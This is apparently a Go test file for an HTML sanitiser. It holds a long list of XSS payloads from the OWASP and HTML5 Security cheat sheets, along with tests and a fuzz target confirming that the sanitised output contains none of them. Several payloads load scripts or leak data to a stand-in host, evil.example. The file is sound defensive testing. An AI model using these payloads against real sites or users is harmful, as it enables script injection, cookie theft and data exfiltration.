package safehtml_test

import (
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/trakstar/hire-gmail/shared/safehtml"
)

// attacks are the ways to get something to act that two published lists name, each written for this test: the OWASP Cross-Site Scripting Filter Evasion Cheat Sheet
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) and the HTML5 Security Cheat Sheet (https://html5sec.org/). Those under mutation are
// about sanitisers: what they leave is harmless until a browser parses it a second time.
var attacks = map[string][]string{
	"owasp: scripts": {
		`<script src=https://evil.example/x.js></script>`,
		`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+x(1)//'>`,
		`<script/xss src="https://evil.example/x.js"></script>`,
		`<script/src="https://evil.example/x.js"></script>`,
		`<<script>x(1);//<</script>`,
		`<script src=https://evil.example/x.js?< b >`,
		`<script src=//evil.example/.j>`,
		`</title><script>x(1);</script>`,
		`\";x(1);//</script><script>x(2)</script>`,
		`<script a=">" src="https://evil.example/x.js"></script>`,
		`<script =">" src="https://evil.example/x.js"></script>`,
		`<script a=">" '' src="https://evil.example/x.js"></script>`,
		`<script "a='>'" src="https://evil.example/x.js"></script>`,
		"<script a=`>` src=\"https://evil.example/x.js\"></script>",
		`<script>document.write("<scri");</script>pt src="https://evil.example/x.js"></script>`,
		`<!--[if gte IE 4]><script>x(1)</script><![endif]-->`,
		`<!--#exec cmd="/bin/echo '<scr'"--><!--#exec cmd="/bin/echo 'ipt src=https://evil.example/x.js></script>'"-->`,
		"\xbcscript\xbex(\xa2XSS\xa2)\xbc/script\xbe",
		"+ADw-script+AD4-x(1)+ADw-/script+AD4-",
		`<scr<script>ipt>x(1)</scr</script>ipt>`,
		"<scr\x00ipt>x(1)</scr\x00ipt>",
	},
	"owasp: handlers": {
		`<a onmouseover="x(document.cookie)">link</a>`,
		`<a onmouseover=x(document.cookie)>link</a>`,
		`<img """><script>x("XSS")</script>"\>`,
		`<img src=# onmouseover="x('a')">`,
		`<img src= onmouseover="x('a')">`,
		`<img onmouseover="x('a')">`,
		`<img src=/ onerror="x(String.fromCharCode(88))"></img>`,
		`<img src=x onerror="&#0000120&#0000040&#0000049&#0000041">`,
		"<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=x(1)>",
		`<body onload=x(1)>`,
		`<body onload =x(1)>`,
		`<svg/onload=x(1)>`,
		`<iframe src=# onmouseover="x(1)"></iframe>`,
		"<img src=\"https://a.example/1.png\"onerror=x(1)>",
		"<img src='https://a.example/1.png'\x0conerror\x0c=x(1)>",
		"<div onpointerover\n=\nx(1)>a</div>",
		`<p ONCLICK=x(1)>a</p>`,
		`<details open ontoggle=x(1)>a</details>`,
		`<marquee onstart=x(1)>a</marquee>`,
		`<div onanimationstart=x(1) style=animation-name:a>b</div>`,
		`<br size="&{x('a')}">`,
	},
	"owasp: addresses": {
		`<a href="javascript:x(String.fromCharCode(88,83,83))">a</a>`,
		`<a href="JaVaScRiPt:x(1)">a</a>`,
		`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;x(1)">a</a>`,
		`<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058x(1)">a</a>`,
		`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Ax(1)">a</a>`,
		"<a href=\"jav\tascript:x(1);\">a</a>",
		`<a href="jav&#x09;ascript:x(1);">a</a>`,
		`<a href="jav&#x0A;ascript:x(1);">a</a>`,
		`<a href="jav&#x0D;ascript:x(1);">a</a>`,
		"<a href=java\x00script:x(1)>a</a>",
		`<a href=" &#14;  javascript:x(1);">a</a>`,
		`<a href="javascript&colon;x(1)">a</a>`,
		`<a href="javascript&#58;x(1)">a</a>`,
		`<a href="&#1;javascript:x(1)">a</a>`,
		"<img src=\"`<javascript:x>`('XSS')\"",
		"<img src=`javascript:x(\"a, 'b'\")`>",
		`<img src='vbscript:msgbox("a")'>`,
		`<img src="livescript:[code]">`,
		`<img dynsrc="javascript:x(1)">`,
		`<img lowsrc="javascript:x(1)">`,
		`<input type="image" src="javascript:x(1);">`,
		`<body background="javascript:x(1)">`,
		`<table background="javascript:x(1)"><tr><td background="javascript:x(1)">a</table>`,
		`<bgsound src="javascript:x(1);">`,
		`<a href="data:text/html;base64,PHNjcmlwdD54KDEpPC9zY3JpcHQ+">a</a>`,
		`<a href="//evil.example/">a</a>`,
		`<a href="/v1/connection">a</a>`,
		`<a href="https:/v1/connection">a</a>`,
		`<a href="https:v1/connection">a</a>`,
		`<a href="https:\v1">a</a>`,
		"<a href=\"htt\tps:/v1/x\">a</a>",
		`<a href="http://javascript:x(1)@%0d%0aevil.example/">a</a>`,
		`<a href="#top">a</a>`,
		`<a href="">a</a>`,
		`<a href="cid:1">a</a>`,
		`<a href="blob:https://hire.example/1">a</a>`,
		`<a href="view-source:javascript:x(1)">a</a>`,
		`<a href="https://good.example" ping="https://evil.example" download>a</a>`,
		`<a href="https://good.example" target="_self" rel="opener">a</a>`,
		`<a target="_top" href="https://good.example">a</a>`,
		`<base href="javascript:x(1);//"><a href="/a">b</a>`,
		`<blockquote cite="javascript:x(1)">a</blockquote><q cite="javascript:x(1)">b</q><del cite="javascript:x(1)">c</del>`,
		`<img longdesc="javascript:x(1)" usemap="#m" src="https://a.example/1.png"><map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:x(1)"></map>`,
	},
	"owasp: what loads": {
		`<meta http-equiv="refresh" content="0;url=javascript:x(1);">`,
		`<meta http-equiv="refresh" content="0;url=data:text/html base64,PHNjcmlwdD4=">`,
		`<meta http-equiv="refresh" content="0; url=http://;url=javascript:x(1);">`,
		`<meta http-equiv="Set-Cookie" content="a=b">`,
		`<meta http-equiv="Content-Security-Policy" content="script-src *">`,
		`<link rel="stylesheet" href="javascript:x(1);">`,
		`<link rel=stylesheet href=https://evil.example/x.css>`,
		`<link rel=prefetch href=https://evil.example/read>`,
		`<link rel=dns-prefetch href=//evil.example>`,
		`<iframe src="javascript:x(1);"></iframe>`,
		`<iframe srcdoc="&lt;script>x(1)&lt;/script>"></iframe>`,
		`<frameset><frame src="javascript:x(1);"></frameset>`,
		`<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>`,
		`<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:x(1)></object>`,
		`<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></embed>`,
		`<applet code="a.class" archive="https://evil.example/a.jar"></applet>`,
		`<portal src="https://evil.example"></portal>`,
		`<xml id="i"><x><c><![CDATA[<img src="javas]]><![CDATA[cript:x(1);">]]></c></x></xml><span datasrc="#i" datafld="c" dataformatas="html"></span>`,
		`<html><body><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributename="innerHTML" to="a<script defer>x(1)</script>"></body></html>`,
		`<layer src="https://evil.example/x.html"></layer>`,
	},
	"owasp: styles": {
		`<style>li {list-style-image: url("javascript:x(1)");}</style><ul><li>a</br>`,
		`<style>@import'https://evil.example/x.css';</style>`,
		`<style>body{-moz-binding:url("https://evil.example/x.xml#x")}</style>`,
		`<style>@im\port'\ja\vasc\ript:x(1)';</style>`,
		`<style type="text/css">body{background:url("<javascript:x>(1)")}</style>`,
		`<img style="xss:expr/*a*/ession(x(1))">`,
		`exp/*<a style='no\xss:noxss("*//*");xss:ex/*a*//*/*/pression(x(1))'>`,
		`<xss style="xss:expression(x(1))">`,
		`<xss style="behavior: url(xss.htc);">`,
		`<div style="background-image: url(javascript:x(1))">a</div>`,
		`<div style="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061'\0029">a</div>`,
		"<div style=\"background-image: url(\x01javascript:x(1))\">a</div>",
		"<div style=\"width: expression\n(x(1));\">a</div>",
		`<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9">a</div>`,
		`<div style="color:red;background:url(https://evil.example/read)">a</div>`,
		`<p style="font-family:'a';color:url(https://evil.example/read)">a</p>`,
		`<div class="btn primary" id="send">a</div>`,
	},
	"html5sec: forms": {
		`<form id="test"></form><button form="test" formaction="javascript:x(1)">a</button>`,
		`<form><button formaction="javascript:x(1)">a</button></form>`,
		`<form action="https://evil.example"><input name="password" type="password" autofocus onfocus=x(1)><textarea name=t></textarea><select autofocus onfocus=x(1)></select><keygen autofocus onfocus=x(1)></form>`,
		`<isindex action="javascript:x(1)" type=image>`,
		`<form id=test onforminput=x(1)><input></form><button form=test onformchange=x(2)>a</button>`,
		`<input onblur=x(1) autofocus><input autofocus>`,
		`<body oninput=x(1)><input autofocus>`,
		`<body onscroll=x(1)><br><br><input autofocus>`,
		`<output name="jAvascript://&NewLine;x(1)" onclick="eval(name)">a</output>`,
		`<form name="getElementById"><input name="cookie"></form><img name="body" src="https://a.example/1.png">`,
		`<div contenteditable="true" tabindex="0" accesskey="x" draggable="true" popover id="p">a</div><button popovertarget="p">b</button>`,
	},
	"html5sec: media and plug-ins": {
		`<video poster=javascript:x(1)//></video>`,
		`<video onerror="javascript:x(1)"><source>`,
		`<video><source onerror="x(1)">`,
		`<audio src=https://evil.example/read autoplay></audio>`,
		`<object data="data:text/html;base64,PHNjcmlwdD54KDEpPC9zY3JpcHQ+"></object>`,
		`<object allowscriptaccess="always" data="https://evil.example/x.swf"></object>`,
		`<embed src="javascript:x(1)"></embed>`,
		`<image src="javascript:x(1)">`,
		`<a href="javascript:x(1)"><event-source src="data:application/x-dom-event-stream,Event:click%0Adata:a%0A%0A" /></a>`,
		`<picture><source srcset="https://evil.example/read"><img src="cid:1" srcset="https://evil.example/read 2x"></picture>`,
		`<img src="https://a.example/1.svg" crossorigin="use-credentials" referrerpolicy="unsafe-url">`,
		`<img src="data:image/svg+xml,%3Csvg onload='x(1)'%3E">`,
		`<img src="http://a.example/read.gif">`,
		`<iframe src=mhtml:https://evil.example/test.html!xss.html></iframe>`,
		`<input type=image src=https://evil.example/read>`,
		`<track src=https://evil.example/read>`,
	},
	"html5sec: svg and mathml": {
		`<svg onload="javascript:x(1)" xmlns="http://www.w3.org/2000/svg"></svg>`,
		`<svg><script>x(1)</script></svg>`,
		`<svg><script xlink:href=data:,x(1)></script></svg>`,
		`<svg xmlns="http://www.w3.org/2000/svg"><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:x(1)"><rect width="1000" height="1000"/></a></svg>`,
		`<svg><animation xlink:href="javascript:x(1)"/><foreignObject xlink:href="javascript:x(1)"/><image xlink:href="data:image/svg+xml,a"/></svg>`,
		`<svg><set attributeName="onmouseover" to="x(1)"/><animate attributeName="onunload" to="x(1)"/></svg>`,
		`<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">x(1)</handler></svg>`,
		`<svg><feImage><set attributeName="xlink:href" to="data:image/svg+xml;charset=utf-8;base64,PHN2Zz4="/></feImage></svg>`,
		`<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>`,
		`<svg><image style='filter:url("data:image/svg+xml,<svg><script>parent.x(1)</script></svg>")'></svg>`,
		`<svg contentScriptType=text/vbs><script>MsgBox+1</script></svg>`,
		`<math href="javascript:x(1)">a</math>`,
		`<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:x(1)">a</maction></math>`,
		`<svg><a><animate attributeName=href values=javascript:x(1) /><text x=20 y=20>b</text></a></svg>`,
	},
	"html5sec: old markup": {
		`<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO`,
		`1<animate/xmlns=urn:schemas-microsoft-com:time style=behavior:url(#default#time2) attributename=innerhtml values=&lt;img/src=&quot;.&quot;onerror=x(1)&gt;>`,
		`<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="javascript:x(1)//#x"/>`,
		`<card xmlns="http://www.wapforum.org/2001/wml"><onevent type="ontimer"><go href="javascript:x(1)"/></onevent><timer value="1"/></card>`,
		`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="data:,a"?><root/>`,
		`<!DOCTYPE x[<!ENTITY x SYSTEM "https://evil.example/x.xxe">]><y>&x;</y>`,
		`<!DOCTYPE x [<!ATTLIST img src CDATA "xx:x" onerror CDATA "x(1)">]><img />`,
		`<xml id="xss" src="test.htc"></xml><label dataformatas="html" datasrc="#xss" datafld="payload"></label>`,
		`<head><base href="javascript://"/></head><body><a href="/. /,x(1)//#">a</a></body>`,
		`<plaintext><img src=x onerror=x(1)>`,
		`<listing>&lt;img onerror=x(1) src=x&gt;</listing>`,
		`<xmp><img src=x onerror=x(1)></xmp>`,
		`<a href="[a]java[b]script[c]:x(1)">a</a>`,
		`<img[a][b]src=x[d]onerror[c]=[e]"x(1)">`,
		`<dialog open>Sign in again</dialog>`,
		`<template shadowrootmode=open><script>x(1)</script></template><slot onslotchange=x(1)></slot>`,
	},
	"html5sec: mutation": {
		`<!--<img src="--><img src=x onerror=x(1)//">`,
		`<comment><img src="</comment><img src=x onerror=x(1)//">`,
		`<![><img src="]><img src=x onerror=x(1)//">`,
		`<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=x(1)//"></svg>`,
		`<style><img src="</style><img src=x onerror=x(1)//">`,
		`<x '="foo"><x foo='><img src=x onerror=x(1)//'>`,
		`<! '="foo"><x foo='><img src=x onerror=x(2)//'>`,
		`<? '="foo"><x foo='><img src=x onerror=x(3)//'>`,
		`<? foo="><script>x(1)</script>">`,
		`<! foo="><script>x(1)</script>">`,
		`</ foo="><script>x(1)</script>">`,
		`<% foo><x foo="%><script>x(1)</script>">`,
		"<a href=https://foo.example/#x=`y></a><img alt=\"`><img src=xx:x onerror=x(1)></a>\">",
		"<img src=\"x` `<script>x(1)</script>\"` `>",
		`<img alt="&lt;/a>&quot;><script>x(1)</script>" src="https://a.example/1.png">`,
		`<p title="&lt;script>x(1)&lt;/script>--&gt;">a</p>`,
		`<noscript><p title="</noscript><img src=x onerror=x(1)>"></noscript>`,
		`<svg></p><style><a title="</style><img src onerror=x(1)>"></svg>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x(1)&gt;">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=x(1)>`,
		`<svg><title><style><a id="</style><img src=1 onerror=x(1)>"></title></svg>`,
		`<select><iframe></select><img src=x: onerror=x(1)>`,
		`<textarea><img title="</textarea><img src=x onerror=x(1)>"></textarea>`,
		`<title><img title="</title><img src=x onerror=x(1)>"></title>`,
		`<table><script>x(1)</script><a href="javascript:x(1)">b</a></table>`,
		"<div><div\x00 onclick=x(1)>a</div></div>",
		`<p><a href="https://good.example"><a href="javascript:x(1)">b</a></a></p>`,
		`<img src="cid:a&quot; onerror=&quot;x(1)">`,
		`<img src="cid:%22%3E%3Cscript%3Ex(1)%3C/script%3E">`,
		`<img src="https://a.example/&quot; onerror=&quot;x(1)">`,
		`&lt;script&gt;x(1)&lt;/script&gt;`,
	},
}

var (
	everywhere = []string{"dir", "lang", "title"}
	// harmless are the elements that may be shown, and their attributes besides those everywhere.
	harmless = map[string][]string{
		"a": {"href", "rel", "target"}, "img": {"alt", "align", "width", "height", "src", "referrerpolicy", "data-content-id"},
		"ol": {"type"}, "ul": {"type"}, "li": {"type", "value"}, "dl": nil, "dt": nil, "dd": nil,
		"table": {"align", "valign", "width", "height", "summary"}, "tr": {"align", "valign", "width", "height"}, "caption": nil,
		"td":  {"align", "valign", "width", "height", "colspan", "rowspan", "abbr", "headers", "scope", "nowrap"},
		"th":  {"align", "valign", "width", "height", "colspan", "rowspan", "abbr", "headers", "scope", "nowrap"},
		"col": {"align", "valign", "width", "height", "span"}, "colgroup": {"align", "valign", "width", "height", "span"},
		"thead": {"align", "valign"}, "tbody": {"align", "valign"}, "tfoot": {"align", "valign"},
	}
	plain = strings.Fields("abbr acronym address article aside b bdi big blockquote br center cite code del dfn div em figcaption figure h1 h2 h3 h4 h5 h6 hr i ins kbd mark p pre q rp rt " +
		"ruby s samp section small span strike strong sub sup tt u var wbr")
	properties = strings.Fields("color background-color font-family font-size font-style font-weight text-align text-decoration line-height")
	value      = regexp.MustCompile(`^[\w#%.,'" -]*$`)
)

// look is how HTML is shown, as far as it says what may be there.
type look struct{ remote, signature bool }

// acts parses a fragment as a browser does and names what in it is not on the lists above.
func acts(fragment string, l look) (wrong []string) {
	nodes, err := html.ParseFragment(strings.NewReader(fragment), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		return []string{err.Error()}
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		switch n.Type {
		case html.TextNode:
		case html.ElementNode:
			wrong = append(wrong, l.element(n)...)
		default:
			wrong = append(wrong, fmt.Sprintf("a node of type %d: %q", n.Type, n.Data))
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return wrong
}

func (l look) element(n *html.Node) (wrong []string) {
	own, known := harmless[n.Data]
	if n.Namespace != "" || !known && !slices.Contains(plain, n.Data) && !(l.signature && n.Data == "font") {
		return []string{"<" + n.Namespace + " " + n.Data + ">"}
	}
	attrs := map[string]string{}
	for _, a := range n.Attr {
		attrs[a.Key] = a.Val
		switch {
		case a.Namespace == "" && (slices.Contains(everywhere, a.Key) || slices.Contains(own, a.Key)):
		case l.signature && (a.Key == "style" && styled(a.Val) || n.Data == "font" && slices.Contains([]string{"color", "face", "size"}, a.Key)):
		default:
			wrong = append(wrong, fmt.Sprintf("<%s %s=%q>", n.Data, a.Key, a.Val))
		}
	}
	switch n.Data {
	case "a":
		href, there := attrs["href"]
		if !there { // leads nowhere
			break
		}
		if !address(href, "http", "https", "mailto", "tel") {
			wrong = append(wrong, "a link to "+href)
		}
		if target := attrs["target"]; target != "" && target != "_blank" {
			wrong = append(wrong, "a link that opens in "+target)
		}
		if rel := strings.Fields(attrs["rel"]); !slices.Contains(rel, "nofollow") || !slices.Contains(rel, "noreferrer") || slices.Contains(rel, "opener") ||
			attrs["target"] != "" && !slices.Contains(rel, "noopener") {
			wrong = append(wrong, fmt.Sprintf("a link with rel %q", rel))
		}
	case "img":
		switch {
		case l.signature:
			if src, there := attrs["src"]; there && !address(src, "http", "https") {
				wrong = append(wrong, "an image from "+attrs["src"])
			}
		case attrs["src"] == "" && attrs["data-content-id"] != "":
		case !l.remote || !address(attrs["src"], "https") || attrs["referrerpolicy"] != "no-referrer":
			wrong = append(wrong, "an image from "+attrs["src"])
		}
	}
	return wrong
}

// address tells whether a browser takes s for an absolute address of one of the schemes, whatever page it is on.
func address(s string, schemes ...string) bool {
	u, err := url.Parse(s)
	if err != nil || !slices.Contains(schemes, u.Scheme) || strings.ContainsFunc(s, func(r rune) bool { return r < ' ' }) {
		return false
	}
	return u.Host != "" || u.Scheme != "http" && u.Scheme != "https"
}

func styled(style string) bool {
	for declaration := range strings.SplitSeq(style, ";") {
		name, v, _ := strings.Cut(declaration, ":")
		if name = strings.ToLower(strings.TrimSpace(name)); name == "" {
			continue
		}
		if !slices.Contains(properties, name) || !value.MatchString(strings.TrimSpace(v)) {
			return false
		}
	}
	return true
}

// again is a fragment as it is when a page has shown it and is read once more.
func again(fragment string) string {
	nodes, err := html.ParseFragment(strings.NewReader(fragment), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	var b strings.Builder
	for _, n := range nodes {
		if err == nil {
			err = html.Render(&b, n)
		}
	}
	if err != nil {
		return "<error>" + err.Error()
	}
	return b.String()
}

func TestNothingActs(t *testing.T) {
	t.Parallel()
	for list, vectors := range attacks {
		for _, v := range vectors {
			for _, in := range []string{v, "<div>" + v + "</div>", "<table><tr><td>" + v, `<p title="` + v, `<p title='` + v, "<!-- " + v, "a" + v + v} {
				for _, l := range []look{{}, {remote: true}, {signature: true}} {
					out := safehtml.Signature(in)
					if !l.signature {
						out, _ = safehtml.Shown(in, l.remote)
					}
					for _, wrong := range append(acts(out, l), acts(again(out), l)...) {
						t.Errorf("%s: %+v: of\n%s\nremains\n%s\nwith %s", list, l, in, out, wrong)
					}
				}
			}
		}
	}
}

// What is written as text stays text, and what is around an attack is still read.
func TestAttacksLeaveTheRest(t *testing.T) {
	t.Parallel()
	for _, vectors := range attacks {
		for _, v := range vectors {
			got, _ := safehtml.Shown("<p>Dear <b>Rita</b></p>"+v, false)
			if !strings.HasPrefix(got, "<p>Dear <b>Rita</b></p>") {
				t.Errorf("before %s: %s", v, got)
			}
		}
	}
}

// FuzzShown holds what any input becomes to the same lists.
func FuzzShown(f *testing.F) {
	for _, vectors := range attacks {
		for _, v := range vectors {
			f.Add(v)
		}
	}
	f.Fuzz(func(t *testing.T, in string) {
		for _, l := range []look{{}, {remote: true}, {signature: true}} {
			out := safehtml.Signature(in)
			if !l.signature {
				out, _ = safehtml.Shown(in, l.remote)
			}
			for _, wrong := range append(acts(out, l), acts(again(out), l)...) {
				t.Errorf("%+v: of %q remains %q with %s", l, in, out, wrong)
			}
		}
	})
}
